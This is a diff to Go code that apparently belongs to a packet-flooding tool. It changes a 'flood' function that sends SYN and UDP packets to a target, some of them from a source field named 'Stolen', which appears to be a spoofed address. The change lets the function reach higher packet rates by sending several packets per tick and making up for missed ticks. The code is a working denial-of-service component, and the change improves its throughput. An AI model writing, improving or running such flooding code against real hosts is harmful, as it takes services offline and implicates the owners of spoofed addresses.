@@ -72,24 +72,35 @@ func (c Config) flood(ctx context.Context, out chan<- []byte) error {
 		synPacket(c.Stolen, netip.AddrPortFrom(c.Target.Addr(), c.Open)),
 		udpPacket(c.Own6, c.Target6), synPacket(c.Own6, c.Target6),
 	}
-	tick := time.NewTicker(time.Second / time.Duration(c.Rate))
+	// A timer of less than a millisecond is late more often than not: above that, several packets are due at each tick.
+	tick := time.NewTicker(max(time.Second/time.Duration(c.Rate), time.Millisecond))
 	defer tick.Stop()
-	for i := 0; ; i++ {
+	begin := time.Now()
+	for i := 0; ; {
 		select {
 		case <-tick.C:
 		case <-ctx.Done():
 			return nil
 		}
-		select {
-		case out <- packets[i%len(packets)]:
-		case <-ctx.Done():
-			return nil
+		due := 1
+		if c.Rate > 1000 {
+			due = min(int(time.Since(begin).Seconds()*float64(c.Rate))-i, maxDue)
 		}
-		if i%1000 == 999 {
-			fmt.Println("sent", i+1)
+		for range due {
+			select {
+			case out <- packets[i%len(packets)]:
+			case <-ctx.Done():
+				return nil
+			}
+			if i++; i%1000 == 0 {
+				fmt.Println("sent", i)
+			}
 		}
 	}
 }
+
+// maxDue bounds what is made up for at once after the process had to wait.
+const maxDue = 500
 
 // sourcePort of every packet that it makes.
 const sourcePort = 40000
